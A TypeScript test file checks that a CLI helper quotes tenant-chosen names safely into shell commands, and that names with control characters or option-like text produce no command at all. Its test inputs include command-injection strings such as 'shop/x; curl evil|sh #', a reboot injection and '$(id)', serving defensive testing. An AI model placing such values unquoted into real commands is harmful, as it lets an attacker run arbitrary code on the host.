import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import type { CellSummary } from "../../model/api.ts";
import { commandOf } from "./command.ts";
import { standingOf } from "./needs.ts";

const wicked = ["shop/x; curl evil|sh #", "a'b", "'; reboot; '", "$(id)`id`", "a b  c", '"\\', "", "*", "~", "ü!"];

test("what a tenant chose stays one word of a command, whatever it is", () => {
  assert.equal(commandOf("cells why", "shop/web-1.a_b"), "cells why shop/web-1.a_b");
  assert.equal(commandOf("cells list --filter", "cell=db.shop"), "cells list --filter cell=db.shop");
  assert.equal(commandOf("cells why", "shop/x; curl evil|sh #"), "cells why 'shop/x; curl evil|sh #'");
  for (const word of wicked) {
    const command = commandOf("printf '[%s]'", word, "end") ?? assert.fail();
    assert.equal(execFileSync("/bin/sh", ["-c", command], { encoding: "utf8" }), `[${word}][end]`);
  }
});

test("of what nobody sees, and of what would be an option, no command is made", () => {
  for (const word of [
    "a\nreboot",
    "a\r",
    "\u001b[2J",
    "a\u0000",
    "a\u007f",
    "a\u202eb",
    "a\u200b",
    "a\u2028b",
    "--help",
  ])
    assert.equal(commandOf("cells why", word), null, JSON.stringify(word));
});

test("what needs somebody has a command that does what it shows, or none", () => {
  const failing = (path: string): CellSummary => ({
    cell: "shop",
    version: 1,
    phases: { failed: 1 },
    elements: 1,
    waiting: [{ path, phase: "failed", reason: null }],
  });
  const commands = (path: string) => standingOf(null, [failing(path)], null).needs.map(({ command }) => command);
  assert.deepEqual(commands("shop/x; reboot"), ["cells why 'shop/x; reboot'"]);
  assert.deepEqual(commands("shop/x\nreboot"), [null]);
});
